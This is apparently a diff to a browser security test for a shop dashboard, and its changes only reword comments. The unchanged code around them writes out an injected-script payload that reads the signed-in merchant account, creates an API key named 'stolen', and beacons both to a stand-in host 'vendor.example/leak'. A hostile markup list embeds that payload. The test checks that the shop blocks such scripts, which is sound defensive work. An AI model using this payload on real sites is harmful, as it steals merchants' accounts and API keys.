@@ -11,7 +11,7 @@ const owner = { cookie: shop.browser.cookie!, keys: `${shop.path}/api-keys` }
 
 const stolenKey = { name: 'stolen', key_type: 'restricted', scopes: ['order:list'] }
 
-/** Reads the account that is signed in, makes a key, and sends what it got to its own host. */
+/** Reads the signed-in account, creates a key, and sends both to the attacker's host. */
 const attack = (run: string) => `(async () => {
   const get = async (path, options) => {
     try {
@@ -29,7 +29,7 @@ const attack = (run: string) => `(async () => {
   new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({ run: '${run}', me, key })
 })()`
 
-/** Markup that runs the attack wherever a browser or a sanitizer lets it. */
+/** Markup that runs the attack if a browser or a sanitizer lets it. */
 const hostile = [
   '<p>Kopi <b>enak</b></p>',
   `<script>${attack('inline')}</script>`,
@@ -42,7 +42,9 @@ const hostile = [
   '<form action="https://vendor.example/"><button>Kirim</button></form>',
 ].join('\n')
 
-/** A signed-in merchant's tab in which every foreign host answers with the attack. `leaks` is what reached the vendor. */
+/**
+ * A signed-in merchant's tab in which every foreign host responds with the attack. `leaks` is what reached the vendor.
+ */
 async function openHostileTab() {
   const tab = await openDashboard(service, owner.cookie)
   const leaks: string[] = []
@@ -87,7 +89,7 @@ describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, 
     await page.getByText('Added to your cart.').waitFor()
     for (const path of ['', '/cart', '/checkout', '/find-order']) {
       await page.goto(shop.url + path)
-      // Even a script that something in the page asks for is not loaded.
+      // Even a script that an element of the page requests is not loaded.
       const outcome = await page.evaluate(`new Promise((resolve) => {
         const script = document.createElement('script')
         script.onload = () => resolve('loaded')
